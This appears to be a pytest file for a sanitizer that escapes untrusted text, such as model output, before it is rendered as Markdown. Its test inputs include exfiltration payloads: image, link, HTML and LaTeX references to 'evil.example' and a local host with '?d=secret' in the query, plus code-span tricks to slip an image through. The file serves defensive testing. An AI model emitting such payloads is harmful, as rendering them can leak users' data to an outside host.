"""Untrusted text (model output, upstream errors) cannot become an image, link, HTML or math
when rendered as Markdown, while code and ordinary formatting survive."""

from __future__ import annotations

import re

import pytest

from gatehouse_core.ui.untrusted import markdown, text

# A bracket, `<` or `$` without a backslash in front: where an image, link, tag or formula
# could start. (Inside code spans and fences they are expected and harmless.)
LIVE = re.compile(r"(?<!\\)[\[\]<$]")


@pytest.mark.parametrize(
    "attack",
    [
        "![x](http://127.0.0.1:9/exfil.png?d=secret)",
        "[click](http://evil.example/?d=secret)",
        "![x][ref]\n\n[ref]: http://evil.example/x.png",
        "<img src=http://evil.example/x.png>",
        "<http://evil.example/x>",
        "$\\includegraphics{http://evil.example/x.png}$",
        ":red[colour] and [^1]\n\n[^1]: note",
    ],
)
def test_images_links_html_and_math_are_escaped(attack: str) -> None:
    assert not LIVE.search(markdown(attack))
    assert not LIVE.search(text(attack))


def test_bare_urls_and_emails_cannot_autolink() -> None:
    # Markdown links these after resolving escapes; a word joiner breaks the pattern itself.
    shown = markdown("see https://evil.example, WWW.evil.example and me@evil.example")
    assert "://" not in shown and "WWW." not in shown and "@" not in shown.replace("\u2060\\@", "")
    assert shown.replace("\u2060", "").replace("\\", "") == (
        "see https://evil.example, WWW.evil.example and me@evil.example"
    )
    assert "://" not in text("https://evil.example")


def test_no_html_block_can_start_so_a_fence_is_always_a_fence() -> None:
    # Raw HTML would end at the blank line and leave the image outside the "fence".
    shown = markdown("<div>\n```\n</div>\n\n![x](http://e/x.png)")
    assert shown.startswith("\\<div>\n\n```\n")  # escaped: a paragraph, then the fence


def test_code_spans_and_fences_are_kept_as_written() -> None:
    answer = "Use `arr[0]` here.\n```python\nx = a[0] < b\n```\nDone."
    assert markdown(answer) == "Use `arr[0]` here.\n\n```python\nx = a[0] < b\n```\nDone."


@pytest.mark.parametrize(
    "attack",
    [
        "\\`![x](http://e/x.png)`",  # an escaped backtick is no span opener
        "`a\n`![x](http://e/x.png)`",  # an unmatched backtick would pair with a later one
        "| `a | ![x](http://e/x.png) | b` |\n|---|---|---|",  # a table splits the "span"
        "- item\n  ```\n![x](http://e/x.png)",  # an indented fence ends with its list item
    ],
)
def test_what_is_left_raw_is_code_for_markdown_too(attack: str) -> None:
    shown = markdown(attack)
    assert "![x](" not in shown.replace("`![x](http://e/x.png)`", "")


def test_a_fence_always_starts_a_new_block() -> None:
    assert markdown("| a |\n|---|\n```\n![x](u)\n```") == "| a |\n|---|\n\n```\n![x](u)\n```"


def test_text_escapes_every_markdown_character() -> None:
    assert text("a_b *c* `d`") == "a\\_b \\*c\\* \\`d\\`"
